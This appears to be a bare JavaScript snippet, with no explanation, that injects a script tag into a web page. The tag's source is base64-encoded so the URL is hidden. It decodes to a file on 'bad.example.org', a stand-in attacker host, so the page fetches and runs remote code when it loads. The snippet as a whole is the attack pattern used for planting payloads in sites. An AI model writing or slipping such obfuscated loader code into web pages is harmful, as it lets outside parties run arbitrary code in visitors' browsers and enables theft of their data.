var s = document.createElement('script');
s.src = atob('Ly9iYWQuZXhhbXBsZS5vcmcvYS5qcw==');
document.head.appendChild(s);
